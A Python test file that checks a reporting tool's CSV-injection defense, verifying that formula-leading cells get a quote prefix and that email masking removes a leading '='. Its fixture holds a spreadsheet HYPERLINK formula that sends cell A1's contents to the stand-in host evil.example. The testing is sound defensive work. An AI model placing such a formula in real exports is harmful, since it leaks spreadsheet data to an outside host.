"""CSV injection: no cell the product writes is run by a spreadsheet as a formula (SPEC 8)."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from compliance.emails import mask_email, mask_emails
from reports.csvcells import safe_cell
from reports.files import write_csv

EVIL = '=HYPERLINK("http://evil.example/?l="&A1,"x")@example.fi'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+358 40 123", "'+358 40 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("aino@example.fi", "aino@example.fi"),
        ("", ""),
        (42, 42),
    ],
)
def test_formula_starts_get_a_quote_and_nothing_else_changes(
    value: object, written: object
) -> None:
    """Cells starting with = + - @ tab or CR are prefixed with ' (OWASP); others are kept."""
    assert safe_cell(value) == written


def test_findings_style_csv_carries_the_hyperlink_address_as_text(tmp_path: Path) -> None:
    """The issue's address lands in the file quoted, so a spreadsheet shows it, never runs it."""
    path = write_csv(tmp_path / "findings.csv", [{"code": "X", "email": EVIL}], ["code", "email"])
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["code", "email"], ["X", "'" + EVIL]]


def test_masking_never_keeps_a_leading_formula_character() -> None:
    """Masked, the address starts with *, not =; ordinary addresses keep their first letter."""
    series = mask_emails(pd.Series([EVIL, "leena@example.fi"])).tolist()
    assert (mask_email(EVIL), series) == (
        "****@example.fi",
        ["****@example.fi", "l***@example.fi"],
    )
